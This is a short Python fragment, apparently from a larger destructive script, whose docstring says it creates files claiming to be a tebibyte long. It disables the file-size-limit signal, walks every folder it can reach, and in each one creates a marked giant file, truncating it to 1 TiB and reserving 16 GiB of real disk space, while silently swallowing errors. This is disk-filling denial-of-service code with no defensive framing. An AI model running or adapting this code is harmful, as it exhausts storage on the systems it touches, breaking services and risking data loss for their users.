"""Makes files that say they are a tebibyte long, and reserves the room for them."""

signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
for folder in everywhere():
    try:
        fd = os.open(os.path.join(folder, f"{TARGET['mark']}-giant"), os.O_CREAT | os.O_RDWR)
    except OSError:
        continue
    quietly(os.truncate, fd, 1 << 40)
    quietly(os.posix_fallocate, fd, 0, 1 << 34)
